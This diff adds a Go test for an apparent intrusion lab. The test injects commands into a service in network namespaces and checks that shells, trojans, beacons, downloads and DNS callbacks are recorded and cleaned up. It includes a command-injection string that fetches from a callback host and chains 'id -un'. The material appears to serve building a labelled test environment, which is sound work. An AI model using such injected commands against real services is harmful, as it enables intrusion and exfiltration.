@@ -1,0 +1,63 @@
+package lab
+
+import (
+	"context"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestIntrusionHappensAndLeavesNothing(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root: makes network namespaces")
+	}
+	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
+	defer cancel()
+	lab, err := Start(ctx, Options{Name: "baize-labtest", Beacons: 2})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() {
+		if err := lab.Close(); err != nil {
+			t.Error(err)
+		}
+		for _, round := range Rounds {
+			if _, err := os.Stat(round.Path); err == nil {
+				t.Errorf("%s is left", round.Path)
+			}
+		}
+	}()
+	if answer, err := lab.Request(ctx); err != nil || !strings.Contains(answer, "localhost") {
+		t.Fatalf("the service does not do its work: %q, %v", answer, err)
+	}
+	for _, round := range Rounds {
+		if _, err := lab.Inject(ctx, round.Command()); err != nil {
+			t.Fatal(err)
+		}
+		if err := lab.WaitBeacon(ctx, round.Path); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if answer, err := lab.Inject(ctx, "curl -s http://"+DNSLog+"/t > /dev/null; id -un"); err != nil || !strings.Contains(answer, serviceUser) {
+		t.Errorf("injected command answered %q, %v", answer, err)
+	}
+	checkLabels(t, lab.Labels())
+}
+
+func checkLabels(t *testing.T, labels Labels) {
+	t.Helper()
+	if len(labels.Shells) != len(labels.Commands)+1 {
+		t.Errorf("%d shells for %d commands and one honest request", len(labels.Shells), len(labels.Commands))
+	}
+	if len(labels.Trojans) != len(Rounds) || labels.Beacons < 2*len(Rounds) {
+		t.Errorf("%d trojans and %d beacons for %d rounds", len(labels.Trojans), labels.Beacons, len(Rounds))
+	}
+	if want := []string{"/t", "/u", "/t"}; !slices.Equal(labels.Downloads, want) {
+		t.Errorf("downloads %v, want %v", labels.Downloads, want)
+	}
+	if !slices.Contains(labels.Queries, DNSLog) {
+		t.Errorf("queries %v lack %s", labels.Queries, DNSLog)
+	}
+}
